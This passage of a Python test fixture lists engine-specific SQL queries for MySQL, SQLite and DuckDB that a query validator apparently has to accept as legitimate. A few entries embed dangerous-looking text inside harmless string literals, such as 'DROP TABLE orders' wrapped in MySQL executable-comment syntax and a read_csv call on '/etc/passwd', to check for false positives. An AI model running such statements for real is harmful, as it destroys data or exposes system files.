    (MY, "SELECT DATE_FORMAT(created_at, '%Y-%m') AS ym, SUM(total) FROM orders GROUP BY ym"),
    (MY, "SELECT id FROM orders WHERE created_at > NOW() - INTERVAL 7 DAY"),
    (MY, "SELECT GROUP_CONCAT(last_name ORDER BY last_name SEPARATOR ', ') FROM customers"),
    (MY, "SELECT IFNULL(shipped_at, created_at) AS t FROM orders"),
    (MY, "SELECT `id`, `total` FROM `orders` WHERE `status` = 'paid'"),
    (MY, "SELECT id FROM orders LIMIT 5, 10"),
    (MY, "SELECT YEAR(created_at) AS y, MONTH(created_at) AS m, COUNT(*) FROM orders GROUP BY y, m"),
    (MY, "SELECT DATEDIFF(shipped_at, created_at) AS days FROM orders"),
    (MY, "SELECT IF(total > 100, 'big', 'small') AS bucket FROM orders"),
    (MY, "SELECT CONCAT(last_name, ', ', country) FROM customers"),
    (MY, "SELECT '/*! DROP TABLE orders */' AS s"),
    (MY, "SELECT 'it''s /*! not */ code' AS s"),
    (MY, 'SELECT "double quoted string /*! x */" AS s'),
    (MY, "SELECT id FROM orders WHERE status REGEXP '^p'"),
    (MY, "SELECT id FROM shop.orders"),
    (MY, "SELECT 1 FROM dual"),
    (MY, "SELECT table_name FROM information_schema.tables WHERE table_schema = DATABASE()"),
    (MY, "SELECT id, total FROM orders ORDER BY total DESC LIMIT 3"),
    (MY, "SELECT CAST(total AS DECIMAL(10, 2)) FROM orders"),
    (MY, "SELECT STR_TO_DATE('2024-01-01', '%Y-%m-%d') AS d"),
    (MY, "SELECT id - -1 AS x FROM orders"),
    # SQLite
    (LITE, "SELECT strftime('%Y-%m', created_at) AS ym, sum(total) FROM orders GROUP BY ym"),
    (LITE, "SELECT date('now', '-7 days') AS week_ago"),
    (LITE, "SELECT id FROM orders WHERE created_at > datetime('now', '-1 day')"),
    (LITE, "SELECT group_concat(last_name, ', ') FROM customers"),
    (LITE, "SELECT ifnull(shipped_at, created_at) FROM orders"),
    (LITE, "SELECT id FROM orders WHERE status GLOB 'p*'"),
    (LITE, "SELECT julianday(shipped_at) - julianday(created_at) AS days FROM orders"),
    (LITE, "SELECT typeof(total) FROM orders"),
    (LITE, 'SELECT [id], `total` FROM "orders"'),
    (LITE, "SELECT id FROM main.orders"),
    (LITE, "SELECT name FROM sqlite_master WHERE type = 'table'"),
    (LITE, "SELECT rowid, id FROM orders"),
    (LITE, "SELECT substr(last_name, 1, 3), instr(last_name, 'a') FROM customers"),
    (LITE, "VALUES (1), (2), (3)"),
    (LITE, "SELECT iif(total > 100, 'big', 'small') FROM orders"),
    (LITE, "SELECT printf('%.2f', total) FROM orders"),
    (LITE, "SELECT total FROM orders ORDER BY total LIMIT -1"),
    (LITE, "SELECT '/*! x */; DROP TABLE orders' AS s"),
    # DuckDB
    (DUCK, "SELECT date_trunc('month', created_at) AS m, sum(total) FROM orders GROUP BY ALL"),
    (DUCK, "FROM orders SELECT id, total"),
    (DUCK, "SELECT * EXCLUDE (status) FROM orders"),
    (DUCK, "SELECT id, total FROM orders QUALIFY row_number() OVER (PARTITION BY customer_id ORDER BY total DESC) = 1"),
    (DUCK, "SELECT list(id) FROM orders"),
    (DUCK, "SELECT string_agg(last_name, ', ') FROM customers"),
    (DUCK, "SELECT id FROM orders WHERE created_at > current_date - INTERVAL 7 DAY"),
    (DUCK, "SELECT range AS n FROM range(10)"),
    (DUCK, "SELECT unnest([1, 2, 3]) AS x"),
    (DUCK, "SELECT strftime(created_at, '%Y-%m') FROM orders"),
    (DUCK, "SELECT id, total FROM orders ORDER BY ALL LIMIT 5"),
    (DUCK, "SELECT epoch(created_at) FROM orders"),
    (DUCK, "SELECT id FROM main.orders"),
    (DUCK, "SELECT table_name FROM information_schema.tables"),
    (DUCK, "SELECT database_name FROM duckdb_databases()"),
    (DUCK, "SELECT table_name FROM duckdb_tables()"),
    (DUCK, "SELECT * FROM generate_series(1, 3)"),
    (DUCK, "SELECT x FROM unnest([1, 2, 3]) AS t(x)"),
    (DUCK, "SELECT id FROM orders UNION ALL BY NAME SELECT id FROM orders"),
    (DUCK, "SELECT approx_count_distinct(customer_id) FROM orders"),
    (DUCK, "SELECT median(total), quantile_cont(total, 0.9) FROM orders"),
    (DUCK, "SELECT 'read_csv(''/etc/passwd'')' AS looks_dangerous"),
    (DUCK, "SELECT id FROM orders USING SAMPLE 10"),
    (DUCK, "SELECT [1, 2, 3][1] AS first"),
    (DUCK, "SELECT {'a': 1} AS s"),
]

LEGIT: list[tuple[str, str]] = [(e, q) for q in _PORTABLE for e in (PG, MY, LITE, DUCK)] + _ENGINE_SPECIFIC
